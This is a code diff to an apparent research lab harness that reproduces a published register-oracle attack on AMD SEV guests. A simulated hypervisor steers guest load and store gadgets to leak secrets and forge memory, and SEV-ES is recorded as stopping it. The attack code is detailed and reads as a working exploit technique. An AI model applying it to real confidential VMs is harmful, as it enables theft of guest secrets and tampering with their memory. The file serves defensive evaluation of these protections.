@@ -3,43 +3,25 @@
 from __future__ import annotations
 
 import struct
+from typing import Final
 
+from cbit.attacks.experiments.correspondent import correspondent
 from cbit.attacks.lab.attack import attack
-from cbit.attacks.lab.guest import CODE, HLT, SECRET, Program
+from cbit.attacks.lab.guest import HLT, PAGE_FAULT
 from cbit.attacks.lab.hands import Hands
 from cbit.attacks.lab.log import Log
 from cbit.attacks.lab.outcome import SUCCEEDS, Mode, stopped_by, succeeds
-from cbit.attacks.lab.scene import Facts, Scene
-from cbit.attacks.lab.stand import Stand
+from cbit.attacks.lab.scene import Facts
 from cbit.attacks.power import Power
+from cbit.guest.builtin.interface import IMAGE, RESULT
 
-LOAD, STORE = CODE + 0x200, CODE + 0x210
-KEPT = 0x20000  #: what the victim writes and the adversary wants to forge
-
-#: Counts in a loop that never touches the secret.  Two pieces of its code, as any program has them, load and
-#: store through registers.
-COUNTER = """
-    xor ebx, ebx
-again:
-    inc rbx
-    hlt
-    jmp again
-.org 0x200
-    mov rax, [rsi]
-    hlt
-.org 0x210
-    mov [rdi], rax
-    hlt
-"""
-
-
-def counter(stand: Stand) -> Scene:
-    """Start a victim with a secret in memory that it does not touch."""
-    secret = stand.entropy.draw(64)
-    guest = stand.guest(Program(COUNTER), secret=secret)
-    guest.until_idle()
-    facts = Facts({"secret_at": SECRET, "load": LOAD, "store": STORE, "kept_at": KEPT})
-    return Scene((secret,), facts, guest, planted=guest.peek(SECRET, 64) == secret)
+#: The guest looks its key up: mov rax, [rsi + 20]; mov rcx, [rsi + 28]; clc; ret
+LOAD: Final = bytes.fromhex("488b4614 488b4e1c f8 c3")
+LOADS_AT: Final = 20  #: from rSI
+#: It wipes its round keys: rep stosd; popf
+STORE: Final = bytes.fromhex("f3ab 9d")
+NOWHERE: Final = 0x1000  #: the guest maps nothing there: as a stack it faults
+FORGED: Final = 0x6465_6772  #: "rged", twice
 
 
 _ES = stopped_by("SEV-ES: registers are encrypted and their integrity is checked at VMRUN")
@@ -58,37 +40,44 @@ EXPECT = {
     paper="Hetzelt & Buhren, VEE 2017 (attacks.md A4a); Werner et al., AsiaCCS 2019 (A9)",
     holds={Power.TAKE_EXITS, Power.USE_REGISTERS},
     expect=EXPECT,
-    victim=counter,
+    victim=correspondent,
 )
 def register_oracle(hands: Hands, facts: Facts, log: Log) -> bytes:
-    """Point rIP at a load in the victim's code and rSI at its secret; read rAX at the next exit.
+    """Point rIP at loads in the victim's code and rSI at its secrets; read rAX and rCX at the next exit.
 
-    The load is executed by the guest, with the guest's key.  The hypervisor chooses its address and sees its
-    result, for plain SEV protects memory and not registers.  A store forges memory the same way.
+    The loads are executed by the guest, with the guest's key.  The hypervisor chooses their address and sees
+    their result, for plain SEV protects memory and not registers.  A store forges memory the same way.  With
+    rSP nowhere the return behind them faults, and the fault is the exit.
     """
     hands.victim.until(HLT)
-    saved = hands.registers.all() | {"rip": hands.registers["rip"], "rsp": hands.registers["rsp"]}
+    registers = hands.registers
+    saved = registers.all() | {"rip": registers["rip"]}
     log.step(f"the victim halts at rIP {saved['rip']:#x}: its registers are saved")
-    loot, exits = b"", 0
-    for at in range(0, 64, 8):
-        hands.registers["rip"] = facts.number("load")
-        hands.registers["rsi"] = facts.number("secret_at") + at
-        hands.victim.until(HLT)
-        exits += 1
-        loot += struct.pack("<Q", hands.registers["rax"])
-    log.step("eight loads of the victim's own, one exit each", loot)
-    hands.registers["rip"] = facts.number("store")
-    hands.registers["rdi"] = facts.number("kept_at")
-    hands.registers["rax"] = 0x6465_6772_6F66  # "forged"
-    hands.victim.until(HLT)
-    hands.registers["rip"] = facts.number("load")
-    hands.registers["rsi"] = facts.number("kept_at")
-    hands.victim.until(HLT)
-    log.step("a store, and a load of what it stored", struct.pack("<Q", hands.registers["rax"]))
+    image = facts.data("image")
+    load, store = IMAGE + image.index(LOAD), IMAGE + image.index(STORE)
+    log.step(f"loads at {load:#x}, stores at {store:#x} of the public image; the stack is taken away", LOAD)
+    registers.take_faults(on=True)
+    registers["rsp"] = NOWHERE
+
+    def loaded(at: int) -> bytes:
+        registers["rip"], registers["rsi"] = load, at - LOADS_AT
+        hands.victim.until(PAGE_FAULT)
+        return struct.pack("<2Q", registers["rax"], registers["rcx"])
+
+    pieces = range(facts.number("secrets_at"), facts.number("secrets_at") + facts.number("secrets_size"), 16)
+    loot = b"".join(map(loaded, pieces))
+    log.step(f"{len(pieces)} exits, two loads of the victim's own before each", loot)
+    registers["rip"], registers["rdi"], registers["rcx"] = store, RESULT, 4
+    registers["rax"] = FORGED
+    hands.victim.until(PAGE_FAULT)
+    log.step("a store, and a load of what it stored", loaded(RESULT))
+    registers.take_faults(on=False)
     for name, value in saved.items():
-        hands.registers[name] = value
+        registers[name] = value
     hands.victim.skip(1)
     hands.victim.until(HLT)
-    log.step("the registers are put back, and the victim counts on as if nothing had been")
-    log.figure("exits for each 8 bytes", exits / (len(loot) / 8), published="no figure in the stored text")
+    log.step("the registers are put back, and the victim goes on as if nothing had been")
+    log.figure(
+        "exits for each 8 bytes", 8 * len(pieces) / len(loot), published="no figure in the stored text"
+    )
     return loot
